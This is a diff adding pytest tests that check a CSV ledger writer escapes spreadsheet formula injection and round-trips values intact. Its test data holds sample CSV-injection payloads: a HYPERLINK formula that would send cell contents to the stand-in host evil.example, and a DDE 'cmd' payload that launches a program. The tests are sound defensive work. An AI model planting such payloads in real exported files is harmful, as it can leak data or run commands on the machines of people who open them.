@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -106,3 +108,37 @@ def test_outcome_for_old_content_is_not_applied_to_a_reshot_file(tmp_path):
     assert (
         json.loads((tmp_path / "JOB-1" / "reviews" / "1.json").read_text())["sha256"] == old.sha256
     )
+
+
+HOSTILE = {
+    "sku": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "reviewed_by": "+SUM(1)",
+    "review_note": "-2+3+cmd|' /C calc'!A0",
+    "campaign": "@import",
+    "category": "'=already quoted",
+}
+
+
+def test_no_ledger_cell_starts_a_spreadsheet_formula(tmp_path):
+    layout = JobLayout.for_job(str(tmp_path), "CSV-1")
+    item = _item(0, Lane.AUTO, **HOSTILE)
+    write_ledger([item], layout)
+    text = (tmp_path / "CSV-1" / "ledger.csv").read_text()
+    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
+    assert not [c for c in cells if c[:1] in "=+-@\t\r" and c], "a cell would run as a formula"
+    # Read back, every value is what the studio wrote.
+    (row,) = read_ledger(str(tmp_path / "CSV-1" / "ledger.csv"))
+    for column, value in HOSTILE.items():
+        assert row[column] == value, column
+
+
+def test_a_review_outcome_written_into_the_ledger_is_spreadsheet_safe_too(tmp_path):
+    layout = JobLayout.for_job(str(tmp_path), "CSV-2")
+    item = _item(0, Lane.REVIEW)
+    write_ledger([item], layout)
+    decided = item.model_copy(update={"reviewed_by": "=1+1", "review_note": "+note"})
+    record_review_outcome(layout, decided)
+    text = (tmp_path / "CSV-2" / "ledger.csv").read_text()
+    assert "'=1+1" in text and "'+note" in text
+    (row,) = read_ledger(str(tmp_path / "CSV-2" / "ledger.csv"))
+    assert row["reviewed_by"] == "=1+1" and row["review_note"] == "+note"
